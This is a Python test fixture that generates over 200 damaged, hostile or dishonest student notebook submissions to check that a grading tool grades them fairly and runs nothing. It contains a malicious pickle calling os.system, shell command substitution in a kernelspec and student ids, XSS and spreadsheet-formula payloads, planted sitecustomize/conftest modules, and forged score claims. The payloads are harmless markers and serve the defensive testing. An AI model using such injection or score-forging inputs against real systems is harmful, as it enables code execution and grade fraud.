"""A class of more than 200 damaged and dishonest submissions, made by hand and by hypothesis; the same every time.

Each is one student. What it honestly earns is worked out by `tests.grading.oracle`; for those made by hand it also
stands here, so that the oracle is tested too.
"""

import copy
import json
import os
import pickle
import warnings
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from entraide.coding import answers
from entraide.course import Course
from entraide.course.reference import Reference
from tests.answering import perfect
from tests.classroom import ASSIGNMENT, NbgraderCourse
from tests.grading import oracle

MUTANTS = 150
ANSWERS = answers.FILE
FULL, PART, NONE = "all that a machine can give", "something", "nothing"
CODE = "open('was-executed', 'w').write('yes')\nimport os; os.system('touch /tmp/entraide-was-executed')"
SCRIPT = "<script>alert(document.domain)</script>"


@dataclass
class Hostile:
    """A student, the files she hands in, and what that must earn.

    ``place`` puts what is no ordinary file into her folder; only `entraide grade` is asked to bear with that, and may
    also say that it cannot be graded. ``nbgrader`` is whether stock nbgrader finds the notebook at all.
    """

    student: str
    files: dict[str, bytes]
    earns: str = ""
    place: Callable[[Path], Any] | None = None
    nbgrader: bool = True
    expected: dict[str, float | None] = field(default_factory=dict)

    def hand_in(self, folder: Path) -> None:
        """Write it into the student's folder."""
        folder.mkdir(parents=True)
        for name, content in self.files.items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_bytes(content)
        if self.place:
            self.place(folder)


def hostile_class(taught: NbgraderCourse, course: Course, keys: Reference, root: Path, every: int = 1) -> list[Hostile]:
    """Hand the class in, in a released course; what each must earn is with it.

    With ``every`` larger than 1, only each so-many-th of those that stock nbgrader bears with.
    """
    exercises = oracle.items(root, taught.folder / f"exercises/{taught.lang}/{ASSIGNMENT}/{ASSIGNMENT}.ipynb")
    good = Good(json.loads(taught.released.read_text("utf-8")), course, keys, list(exercises))
    students = [*by_hand(good), *mutants(good, MUTANTS)]
    if every > 1:
        students = [student for student in students if student.nbgrader][::every]
    for student in students:
        student.expected = oracle.earned(
            exercises, student.files.get(f"{ASSIGNMENT}.ipynb", b""), student.files.get(ANSWERS)
        )
        student.hand_in(taught.folder / "submitted" / student.student / ASSIGNMENT)
    return students


class Good:
    """An honest, perfect submission, which the others start from."""

    def __init__(self, released: dict[str, Any], course: Course, keys: Reference, names: list[str]) -> None:
        self.released, self.course, self.keys, self.names = released, course, keys, names
        self.records = {name: perfect(course, keys, name) for name in names}

    def notebook(self, records: list[Any] | None = None) -> dict[str, Any]:
        """The released notebook with these records in their exercises' outputs; a perfect student's by default."""
        notebook = copy.deepcopy(self.released)
        for record in self.records.values() if records is None else records:
            cell(notebook, record["exercise"])["outputs"].append(output({answers.MIME: record}))
        return notebook

    def changed(self, name: str, **changes: Any) -> dict[str, Any]:
        """The perfect notebook with one record changed, and the other exercises left blank."""
        return self.notebook([self.records[name] | changes])

    @property
    def codings(self) -> list[dict[str, Any]]:
        """The perfect codings of the first exercise."""
        return list(self.records[self.names[0]]["value"])


def cell(notebook: dict[str, Any], name: str) -> dict[str, Any]:
    """The cell of a grade id."""
    return next(c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == name)


def output(data: dict[str, Any]) -> dict[str, Any]:
    """A cell output."""
    return {"output_type": "display_data", "metadata": {}, "data": data}


def dumped(content: Any) -> bytes:
    """JSON in UTF-8; half surrogate pairs go through as they are."""
    return json.dumps(content, ensure_ascii=False).encode("utf-8", "surrogatepass")


def by_hand(good: Good) -> list[Hostile]:
    """Every case that somebody thought of."""
    return [
        *files_that_suffered(good),
        *notebooks_taken_apart(good),
        *claims(good),
        *records_bent(good),
        *texts(good),
        *beside_the_notebook(good),
        *names(good),
        *no_files(good),
    ]


def _one(student: str, raw: bytes, earns: str) -> Hostile:
    return Hostile(student, {f"{ASSIGNMENT}.ipynb": raw}, earns)


def files_that_suffered(good: Good) -> list[Hostile]:
    """Bytes that are no notebook any more."""
    raw = dumped(good.notebook())
    pretty = json.dumps(good.notebook(), indent=1, sort_keys=True, ensure_ascii=False)
    half = raw.index(b'"cell_type"', len(raw) // 2)
    cells = b'"cells": ['
    large = good.notebook()
    large["cells"][0]["source"] = ["x" * 12_000_000]
    return [
        _one("empty", b"", NONE),
        _one("blanks", b" \n\t " * 1000, NONE),
        *(_one(f"json-{value}", value.encode(), NONE) for value in ("null", "[]", '"text"', "0", "NaN", "-Infinity")),
        _one("pickle", pickle.dumps(Runs()), NONE),
        _one("pickle-around-a-notebook", pickle.dumps((Runs(), raw.decode())), FULL),
        _one("zip", b"PK\x03\x04" + bytes(range(256)) * 4, NONE),
        _one("web-page", f"<!DOCTYPE html><title>Log in</title>{SCRIPT}".encode(), NONE),
        _one("utf-16", pretty.encode("utf-16"), FULL),
        _one("utf-8-with-a-mark", b"\xef\xbb\xbf" + raw, FULL),
        _one("two-marks", b"\xef\xbb\xbf\xef\xbb\xbf" + raw, FULL),
        _one("latin-1", pretty.encode("latin-1", "replace"), FULL),
        _one("lines-of-windows", pretty.replace("\n", "\r\n").encode(), FULL),
        _one("lines-of-old-macs", pretty.replace("\n", "\r").encode(), FULL),
        *(_one(f"cut-at-{tenth}-tenths", raw[: len(raw) * tenth // 10], "") for tenth in range(1, 10)),
        _one("nul-in-the-middle", raw[:half] + b"\0" * 64 + raw[half:], FULL),
        _one("bytes-that-are-no-text", raw[:half] + b"\xff\xfe\xed\xa0\x80\xf5" + raw[half:], FULL),
        _one("something-after-the-end", raw + b"\n-- \nSent from my phone", FULL),
        _one("twice-the-same", raw + raw, FULL),
        _one("badly-merged", raw[:half] + b"\n<<<<<<< HEAD\n=======\n>>>>>>> theirs\n" + raw[half:], FULL),
        _one("nested-a-hundred-thousand-times", raw.replace(cells, cells + b"[" * 100_000, 1), FULL),
        _one("nested-at-the-end", raw[:-1] + b', "x": ' + b'{"x":' * 100_000, FULL),
        _one("nested-but-whole", raw[:-1] + b', "x": ' + b"[" * 800 + b"]" * 800 + b"}", FULL),
        _one("a-long-number", raw[:-1] + b', "x": ' + b"9" * 100_000 + b"}", FULL),
        _one("numbers-out-of-reach", raw[:-1] + b', "x": [1e999999, -1e999999, NaN, Infinity]}', FULL),
        _one("a-million-small-things", raw[:-1] + b', "x": [' + b"[]," * 1_000_000 + b"[]]}", FULL),
        _one("five-million-small-things", raw[:-1] + b', "x": [' + b"[]," * 5_000_000 + b"[]]}", FULL),
        _one("a-long-text", dumped(large), FULL),
        _one("ten-thousand-openings", (b'"' + answers.MIME.encode() + b'": {') * 10_000, NONE),
        _one("too-large", raw + b" " * 100_000_000, NONE),
    ]


class Runs:
    """Would leave a file if it were unpickled."""

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, ("touch /tmp/entraide-was-executed",)


def notebooks_taken_apart(good: Good) -> list[Hostile]:
    """Whole JSON in which cells are gone, moved, repeated or turned into something else."""
    first = good.names[0]

    def changed(student: str, earns: str, change: Callable[[dict[str, Any]], Any]) -> Hostile:
        notebook = good.notebook()
        change(notebook)
        return _one(student, dumped(notebook), earns)

    def moved(notebook: dict[str, Any]) -> None:
        outputs = [output for c in notebook["cells"] for output in c.pop("outputs", [])]
        notebook["cells"] = [{"cell_type": "markdown", "metadata": {}, "source": "", "outputs": outputs}]

    def ids_swapped(notebook: dict[str, Any]) -> None:
        one, two = cell(notebook, first), cell(notebook, good.names[1])
        one["metadata"], two["metadata"] = two["metadata"], one["metadata"]

    def older(notebook: dict[str, Any]) -> None:
        notebook |= {"nbformat": 3, "worksheets": [{"cells": notebook.pop("cells")}]}

    def scribbled(notebook: dict[str, Any]) -> None:
        for c in notebook["cells"]:
            c["metadata"]["nbgrader"] = {"grade": True, "points": float("nan"), "grade_id": 7, "schema_version": 99}

    def dangerous(notebook: dict[str, Any]) -> None:
        notebook["metadata"] = {"kernelspec": {"name": "$(touch /tmp/entraide-was-executed)", "argv": ["sh"]}}
        for c in notebook["cells"]:
            c["source"] = CODE if c["cell_type"] == "code" else SCRIPT

    return [
        changed("no-cells", NONE, lambda nb: nb.pop("cells")),
        changed("cells-are-null", NONE, lambda nb: nb.update(cells=None)),
        changed(
            "cells-are-an-object", NONE, lambda nb: nb.update(cells={str(i): c for i, c in enumerate(nb["cells"])})
        ),
        changed("cells-in-cells", NONE, lambda nb: nb.update(cells=[nb["cells"]])),
        changed("cells-backwards", FULL, lambda nb: nb["cells"].reverse()),
        changed("every-cell-ten-times", FULL, lambda nb: nb.update(cells=nb["cells"] * 10)),
        changed("one-cell-deleted", PART, lambda nb: nb["cells"].remove(cell(nb, first))),
        changed("cells-are-numbers", NONE, lambda nb: nb.update(cells=list(range(50)))),
        changed("all-in-one-text-cell", FULL, moved),
        changed("ids-swapped", FULL, ids_swapped),
        changed("older-format", NONE, older),
        changed("newer-format", FULL, lambda nb: nb.update(nbformat=99, nbformat_minor=-1)),
        changed("format-is-text", FULL, lambda nb: nb.update(nbformat="four")),
        changed("scribbled-settings", FULL, scribbled),
        changed("code-in-every-cell", FULL, dangerous),
        changed(
            "outputs-are-an-object",
            PART,
            lambda nb: cell(nb, first).update(outputs={"0": cell(nb, first)["outputs"][0]}),
        ),
        changed("data-is-a-list", PART, lambda nb: cell(nb, first).update(outputs=[{"data": [answers.MIME]}])),
        changed("kinds-are-raw", FULL, lambda nb: [c.update(cell_type="raw") for c in nb["cells"]]),
        _one("somebody-elses-assignment", dumped(_foreign(good, "approaches")), NONE),
        _one("the-book-s-own-exercises", dumped(_foreign(good, "dynamics")), NONE),
    ]


def _foreign(good: Good, topic: str) -> dict[str, Any]:
    """A notebook of answers to exercises that are not this assignment's."""
    notebook = copy.deepcopy(good.released)
    for name, exercise in good.course.exercises.items():
        if name.startswith(topic):
            value: Any = "A memo." if exercise.kind == "memo" else ["a"] if exercise.kind == "choice" else []
            record = good.records[good.names[0]] | {"exercise": name, "kind": exercise.kind, "value": value}
            notebook["cells"][3]["outputs"].append(output({answers.MIME: record}))
    return notebook


def claims(good: Good) -> list[Hostile]:
    """No answers, and points claimed in every place where a grader might look."""
    first = good.records[good.names[0]]

    def claimed(student: str, change: Callable[[dict[str, Any], dict[str, Any]], Any]) -> Hostile:
        notebook = good.notebook([])
        for c in notebook["cells"]:
            if c["metadata"].get("nbgrader", {}).get("grade"):
                change(c, c["metadata"]["nbgrader"])
        return _one(student, dumped(notebook), NONE)

    def result(text: Any) -> list[dict[str, Any]]:
        return [{"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": text}}]

    return [
        claimed("says-25", lambda c, _: c.update(outputs=result("25"))),
        claimed("says-infinity", lambda c, _: c.update(outputs=result("inf"))),
        claimed("says-well-done", lambda c, _: c.update(outputs=[output({"text/html": "<b>25 / 25</b>" + SCRIPT})])),
        claimed("prints-25", lambda c, _: c.update(outputs=[{"output_type": "stream", "name": "stdout", "text": "1"}])),
        claimed("a-thousand-points", lambda c, settings: settings.update(points=1000)),
        claimed("points-not-a-number", lambda c, settings: settings.update(points=float("nan"), max_score=1e308)),
        claimed("points-below-zero", lambda c, settings: settings.update(points=-100)),
        claimed("not-graded-by-itself", lambda c, settings: settings.update(solution=True, locked=False, task=True)),
        claimed("no-grade-at-all", lambda c, settings: settings.update(grade=False)),
        claimed("score-in-the-settings", lambda c, settings: settings.update(score=25, auto_score=25, checksum="0")),
        claimed("record-in-the-settings", lambda c, _: c["metadata"].update(entraide={"answer": first, "notes": []})),
        claimed("notes-in-the-settings", lambda c, _: c["metadata"].update(entraide={"notes": [{"key": SCRIPT}]})),
        claimed("record-as-attachment", lambda c, _: c.update(attachments={"a": {answers.MIME: first}})),
        claimed("record-as-source", lambda c, _: c.update(source=json.dumps({answers.MIME: first}))),
        claimed("record-as-text", lambda c, _: c.update(outputs=[output({"text/plain": json.dumps(first)})])),
        claimed("record-in-a-list", lambda c, _: c.update(outputs=[output({answers.MIME: [first]})])),
        claimed("record-as-words", lambda c, _: c.update(outputs=[output({answers.MIME: json.dumps(first)})])),
        claimed("code-in-place", lambda c, _: c.update(source=CODE, outputs=result("25"))),
    ]  # fmt: skip


def records_bent(good: Good) -> list[Hostile]:
    """Records with one thing wrong, or one thing odd and right."""
    coding, one, several = good.names[0], good.names[2], good.names[4]
    codings = good.codings
    excerpts = [good.course.excerpts[name] for name in good.course.exercise(coding).items]
    codes = good.course.exercise(coding).codes
    everything = [
        {"excerpt": excerpt.excerpt, "unit": unit.unit, "code": code}
        for excerpt in excerpts
        for unit in excerpt.units
        for code in codes
    ]
    options = [option.option for option in good.course.questions[good.course.exercise(several).items[0]].options]

    def bent(student: str, earns: str, name: str = coding, **changes: Any) -> Hostile:
        return _one(student, dumped(good.changed(name, **changes)), earns)

    def every(student: str, earns: str, **changes: Any) -> Hostile:
        return bent(student, earns, value=[coding | changes for coding in codings])

    def both(student: str, earns: str, other: dict[str, Any]) -> Hostile:
        record = good.records[coding]
        return _one(student, dumped(good.notebook([record, record | other])), earns)

    long_ago, far_off = "0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z"
    return [
        *(bent(f"schema-{place}", NONE, schema=value) for place, value in enumerate((2, "1", None, [1], {}, 1e999))),
        bent("schema-in-words-of-a-machine", PART, schema=True),
        *(bent(f"kind-{place}", NONE, kind=value) for place, value in enumerate(("choice", "Coding", None, [], 0))),
        *(
            bent(f"date-{place}", NONE, saved_at=value)
            for place, value in enumerate(
                ("0000-01-01T00:00:00Z", "10000-01-01T00:00:00Z", "2026-02-30T10:00:00Z", "2026-01-01T00:00:00+99:99",
                 "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "yesterday", "", None, 0, 1e999, [], {},
                 "2026-01-01\u202e", "２０２６-01-01T00:00:00Z", "2026-01-01T25:61:61Z", "x" * 100_000)
            )
        ),
        bent("date-of-long-ago", PART, saved_at=long_ago),
        bent("date-of-the-end", PART, saved_at=far_off),
        bent("date-without-zone", PART, saved_at="2026-01-31T14:05:00"),
        bent("date-of-a-week", PART, saved_at="2026-W05-6"),
        both("newer-and-blank", NONE, {"saved_at": far_off, "value": []}),
        both("older-and-blank", PART, {"saved_at": long_ago, "value": []}),
        both("newer-and-broken", PART, {"saved_at": far_off, "value": "?"}),
        both("newer-of-another-kind", PART, {"saved_at": far_off, "kind": "choice", "value": ["a"]}),
        *(bent(f"language-{place}", PART, lang=lang) for place, lang in enumerate(("de", "fr", None, ["en"], SCRIPT))),
        bent("points-inside", NONE, value=[], points=25, score=25, share=1, hit=99),
        bent("names-of-a-language", PART, __reduce__=["os.system", CODE], __class__="Answer", __proto__={"score": 25}),
        bent("value-is-an-object", NONE, value={str(i): coding for i, coding in enumerate(codings)}),
        bent("value-is-words", NONE, value="everything"),
        bent("value-is-not-a-number", NONE, value=float("nan")),
        bent("value-in-a-list", NONE, value=[codings]),
        bent("a-hundred-thousand-nothings", NONE, value=[None] * 100_000 + codings),
        bent("the-same-thousandfold", PART, value=codings * 1000),
        bent("record-too-large", NONE, padding="x" * 1_000_001),
        bent("memos-too-large", NONE, value=[coding | {"memo": "x" * 80_000} for coding in codings]),
        bent("everything-everywhere", PART, value=everything),
        bent("everything-twice", PART, value=everything + everything),
        *(
            every(f"unit-{place}", NONE, unit=value)
            for place, value in enumerate(
                (True, 1.0, "1", float("nan"), float("inf"), -1, 0, 10**30, None, [1], {"unit": 1}, "G01")
            )
        ),
        *(
            every(f"code-{place}", NONE, code=value)
            for place, value in enumerate(
                (None, [], {}, 7, "", "SHARED-REALITY", "shared-reality\u200b", "shared\u2010reality", "*", "G01")
            )
        ),
        *(
            every(f"excerpt-{place}", NONE, excerpt=value)
            for place, value in enumerate((None, [], "P01", "g01", "G01 ", "../G01", "G99", {"G01": 1}, SCRIPT))
        ),
        every("memo-of-another-type", PART, memo={"html": SCRIPT}),
        bent("all-options", NONE, several, value=options),
        bent("an-option-a-hundred-times", "", several, value=[options[0]] * 100),
        bent("options-and-more", "", several, value=[*options, None, 7, "z", ["a"], {"a": 1}]),
        bent("options-in-a-list", NONE, several, value=[options]),
        bent("options-as-a-word", NONE, several, value="".join(options)),
        bent("all-of-one", NONE, one, value=["a", "b", "c", "d"]),
        bent("options-are-numbers", NONE, one, value=[0, 1, 2, True]),
        bent("answer-of-the-other-question", "", one, value=good.records[several]["value"]),
    ]  # fmt: skip


TEXTS = {
    "script": SCRIPT,
    "image": '"><img src=x onerror=alert(1)>',
    "end-of-page": "</div></td></tr></table></main></body></html><h1>100 / 100</h1>",
    "end-of-comment": "--> ]]> </script></style></textarea></title>",
    "entities": "&lt;script&gt; &amp;#x3c; &#60;b&#62; &nbsp",
    "template": "{{ 7*7 }} {% raw %} ${7*7} %s {0} {won} #{7}",
    "formula": '=HYPERLINK("http://example.org/?"&A1,"Grade")\n=cmd|\'/C calc\'!A0\n@SUM(1)\n+1\n-1',
    "markdown": "[x](javascript:alert(1)) ![y](http://example.org/y.png) <http://example.org> # Heading\n```\n",
    "zero-width": "re\u200bad \u200dme\ufeff \u2060",
    "only-zero-width": "\u200b\u200d\ufeff",
    "right-to-left": "\u202e001 / 001\u202c \u2067\u2066 שלום",
    "half-a-pair": "\ud83d alone \udc00",
    "control": "\x00\x01\x07\x08\x1b[31mred\x7f\x85\x9b \x0c",
    "no-characters": "\ufffe\uffff",
    "joined": "👩🏽‍👩🏽‍👧🏽‍👦🏽" * 200,
    "piled-up": "Z" + "\u0300" * 5000,
    "very-long": "mot " * 100_000,
    "one-long-line": "x" * 19_000,
    "blank": " \n\t\u00a0 ",
}


def texts(good: Good) -> list[Hostile]:
    """What is typed into memos: it must be shown, or replaced, and never do anything."""
    coding, question, memo = good.names[0], good.names[2], good.names[5]

    def typed(text: str) -> list[dict[str, Any]]:
        return [
            good.records[memo] | {"value": text},
            good.records[coding] | {"value": [found | {"memo": text[:20_000]} for found in good.codings[:2]]},
            good.records[coding] | {"schema": text[:500]},
            good.records[question] | {"value": [text[:500]], "lang": text[:50]},
        ]

    return [_one(f"types-{name}", dumped(good.notebook(typed(text))), "") for name, text in TEXTS.items()]


def beside_the_notebook(good: Good) -> list[Hostile]:
    """What stands in an answers.json, or beside it."""
    blank = dumped(good.notebook([]))
    kept = {"schema": 1, "answers": good.records}
    raw = dumped(kept)
    crossed = {"schema": 1, "answers": dict(zip(good.records, reversed(good.records.values()), strict=True))}

    def beside(student: str, content: bytes, earns: str, notebook: bytes = blank) -> Hostile:
        return Hostile(student, {f"{ASSIGNMENT}.ipynb": notebook, ANSWERS: content}, earns)

    modules = (
        "entraide.py",
        "sitecustomize.py",
        "conftest.py",
        "json.py",
        "nbgrader_config.py",
        "data/keys/reference.csv",
    )
    return [
        beside("beside-alone", raw, FULL),
        beside("beside-and-empty-notebook", raw, FULL, b""),
        beside("beside-and-half-a-notebook", raw, FULL, blank[: len(blank) // 2]),
        beside("beside-is-empty", b"", NONE),
        beside("beside-is-a-list", dumped([kept]), NONE),
        beside("beside-holds-a-list", dumped({"schema": 1, "answers": list(good.records.values())}), NONE),
        beside("beside-is-a-notebook", dumped(good.notebook()), NONE),
        beside("beside-under-each-others-names", dumped(crossed), FULL),
        beside("beside-is-cut", raw[: len(raw) * 2 // 3], PART),
        beside("beside-is-a-pickle", pickle.dumps(Runs()), NONE),
        beside("beside-is-nested", b'{"answers": ' + b"[" * 200_000, NONE),
        beside("beside-is-large", raw[:-1] + b', "x": "' + b"x" * 12_000_000 + b'"}', FULL),
        beside("beside-holds-nothings", dumped({"answers": {"a": None, "b": [], "c": 1e999, "d": "x", "": {}}}), NONE),
        Hostile(
            "modules-beside",
            {f"{ASSIGNMENT}.ipynb": blank} | {name: CODE.encode() for name in modules},
            NONE,
        ),
    ]


def names(good: Good) -> list[Hostile]:
    """Students' ids that are more than names, each with a perfect answer to one exercise."""
    raw = dumped(good.notebook([good.records[good.names[0]]]))
    ids = (
        "=1+1", "@SUM(A1)", "+41", "-e", 'quo"te, comma', "apo'strophe", "<img src=x onerror=alert(1)>", "a b  c",
        "accentuée-Ñandú", "\u202edlrow", "zero\u200bwidth", "100%", "%s{0}", "semi;colon", "$(id)", "`id`", "a&b",
    )  # fmt: skip
    return [
        *(_one(name, raw, PART) for name in ids),
        # nbgrader itself looks for files by pattern, and finds none under these.
        *(replace(_one(name, raw, PART), nbgrader=False) for name in ("brackets[1]", "star*", "who?")),
    ]


def no_files(good: Good) -> list[Hostile]:
    """What is no ordinary file, or not where it should be: earns nothing, and hangs nobody."""
    perfect_one = dumped(good.notebook())
    notebook = f"{ASSIGNMENT}.ipynb"

    def place(student: str, put: Callable[[Path], Any]) -> Hostile:
        return Hostile(student, {}, NONE, put, nbgrader=False)

    def blank_and(put: Callable[[Path], Any]) -> Callable[[Path], Any]:
        def both(folder: Path) -> None:
            (folder / notebook).write_bytes(dumped(good.notebook([])))
            put(folder)

        return both

    def elsewhere(folder: Path) -> Path:
        """A perfect notebook and its answers, outside of the student's folder."""
        there = folder.parents[2] / "elsewhere"
        there.mkdir(exist_ok=True)
        (there / notebook).write_bytes(perfect_one)
        (there / ANSWERS).write_bytes(dumped({"schema": 1, "answers": good.records}))
        return there

    def stamped(text: bytes) -> Callable[[Path], Any]:
        return blank_and(lambda folder: (folder / "timestamp.txt").write_bytes(text))

    return [
        place("notebook-is-a-pipe", lambda folder: os.mkfifo(folder / notebook)),
        place("notebook-is-a-folder", lambda folder: (folder / notebook).mkdir()),
        place("notebook-is-a-link", lambda folder: (folder / notebook).symlink_to(elsewhere(folder) / notebook)),
        place("notebook-is-a-link-to-nowhere", lambda folder: (folder / notebook).symlink_to("nowhere.ipynb")),
        place("notebook-is-a-link-to-itself", lambda folder: (folder / notebook).symlink_to(notebook)),
        place("notebook-has-no-end", lambda folder: (folder / notebook).symlink_to("/dev/zero")),
        place("nothing-at-all", lambda folder: None),
        place("only-a-folder", lambda folder: (folder / ".ipynb_checkpoints").mkdir()),
        place("beside-is-a-pipe", blank_and(lambda folder: os.mkfifo(folder / ANSWERS))),
        place("beside-is-a-folder", blank_and(lambda folder: (folder / ANSWERS).mkdir())),
        place("beside-is-a-link", blank_and(lambda folder: (folder / ANSWERS).symlink_to(elsewhere(folder) / ANSWERS))),
        place("beside-is-a-link-to-nowhere", blank_and(lambda folder: (folder / ANSWERS).symlink_to("nowhere"))),
        place("beside-has-no-end", blank_and(lambda folder: (folder / ANSWERS).symlink_to("/dev/zero"))),
        place("a-pipe-beside-them", blank_and(lambda folder: os.mkfifo(folder / "notes.txt"))),
        place("a-link-beside-them", blank_and(lambda folder: (folder / "photo.png").symlink_to("/dev/zero"))),
        place("date-is-no-date", stamped(b"whenever")),
        place("date-is-empty", stamped(b"")),
        place("date-is-out-of-reach", stamped(b"9999-12-31 23:59:59 -2359")),
        place("date-is-of-no-use", stamped(b"\xff\xfe\x00" * 100)),
        place("date-is-long", stamped(b"1" * 100_000)),
        place("date-is-a-pipe", blank_and(lambda folder: os.mkfifo(folder / "timestamp.txt"))),
    ]


# By hypothesis: a valid notebook, changed in up to six places, then perhaps its bytes.

ODD = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(10**40), 10**40),
    st.floats(),
    st.text(max_size=20),
    st.sampled_from(
        [SCRIPT, CODE, "\u202e25\u202c", "\u200b", "\ud800", "\x00", "=1+1", "x" * 30_000, "25", "", "mutual-aid-1",
         "G01", "shared-reality", 1, 25, 1e308, float("nan"), float("inf"), [], {}, [[]] * 50, "2999-01-01T00:00:00Z",
         "0000-00-00", "coding", "choice", "memo", "a", ["a"], {"exercise": "mutual-aid-1"}]
    ),
)  # fmt: skip

OPERATIONS = ("delete", "repeat", "swap", "nest", "rename", "copy")


@st.composite
def mutated(draw: st.DrawFn, content: Any) -> Any:
    """A copy of JSON in which up to six values were deleted, repeated, swapped for something odd, nested or moved."""
    content = _again(content)
    for _ in range(draw(st.integers(1, 6))):
        parent, key = _walk(draw, content)
        if parent is None:
            continue
        operation = draw(st.sampled_from(OPERATIONS))
        if operation == "delete":
            del parent[key]
        elif operation == "repeat" and isinstance(parent, list):
            parent[key:key] = [_again(parent[key])] * draw(st.integers(1, 40))
        elif operation == "nest":
            for _ in range(draw(st.integers(1, 20))):
                parent[key] = draw(st.sampled_from(([parent[key]], {"x": parent[key]})))
        elif operation == "rename" and isinstance(parent, dict):
            parent[draw(st.text(max_size=8))] = parent.pop(key)
        elif operation == "copy":
            other, place = _walk(draw, content)
            if other is not None:
                parent[key] = _again(other[place])
        else:
            parent[key] = _again(draw(ODD))
    return content


def _again(content: Any) -> Any:
    """A copy; `copy.deepcopy` would give up on deep nesting."""
    return json.loads(json.dumps(content))


def _walk(draw: st.DrawFn, content: Any) -> tuple[Any, Any]:
    """A place in JSON by chance: the list or object, and the index or key; None where there is nothing to choose."""
    parent, key = None, None
    while isinstance(content, list | dict) and content and (parent is None or draw(st.integers(0, 5))):
        keys = range(len(content)) if isinstance(content, list) else sorted(content)
        parent, key = content, draw(st.sampled_from(keys))
        content = parent[key]
    return parent, key


@st.composite
def damaged(draw: st.DrawFn, content: Any) -> bytes:
    """JSON as bytes, one time in two no longer whole."""
    raw = json.dumps(content, ensure_ascii=draw(st.booleans())).encode("utf-8", "surrogatepass")
    damage = draw(st.sampled_from(("", "", "", "", "cut", "bytes", "hole", "mark", "wide")))
    place = draw(st.integers(0, len(raw)))
    if damage == "cut":
        return raw[:place]
    if damage == "bytes":
        return raw[:place] + draw(st.binary(min_size=1, max_size=8)) + raw[place:]
    if damage == "hole":
        return raw[:place] + raw[place + draw(st.integers(1, 2000)) :]
    if damage == "mark":
        return b"\xef\xbb\xbf" + raw
    if damage == "wide":
        return raw.decode("utf-8", "replace").encode(draw(st.sampled_from(("utf-16", "utf-32", "utf-16-le"))))
    return raw


@st.composite
def submissions(draw: st.DrawFn, good: Good) -> dict[str, bytes]:
    """The files of a student who started from a perfect submission, with or without an answers.json."""
    names = draw(st.lists(st.sampled_from(good.names), unique=True, min_size=1))
    notebook = good.notebook([good.records[name] for name in names])
    # Most of a notebook is text that nobody grades: half of the time only what counts is changed.
    if draw(st.booleans()):
        for name in names:
            cell(notebook, name)["outputs"] = draw(mutated(cell(notebook, name)["outputs"]))
    else:
        notebook = draw(mutated(notebook))
    files = {f"{ASSIGNMENT}.ipynb": draw(damaged(notebook))}
    if draw(st.integers(0, 3)) == 0:
        kept = {"schema": 1, "answers": {name: good.records[name] for name in draw(st.permutations(good.names))[:3]}}
        files[ANSWERS] = draw(damaged(draw(mutated(kept))))
    return files


def mutants(good: Good, count: int) -> list[Hostile]:
    """So many different submissions that hypothesis makes up: the same ones every time."""
    found: list[dict[str, bytes]] = []

    @settings(
        max_examples=count + count // 2,
        derandomize=True,
        database=None,
        deadline=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(files=submissions(good))
    def collect(files: dict[str, bytes]) -> None:
        if len(found) < count and files not in found:
            found.append(files)

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        collect()
    return [Hostile(f"mutant-{number:03}", files) for number, files in enumerate(found, 1)]
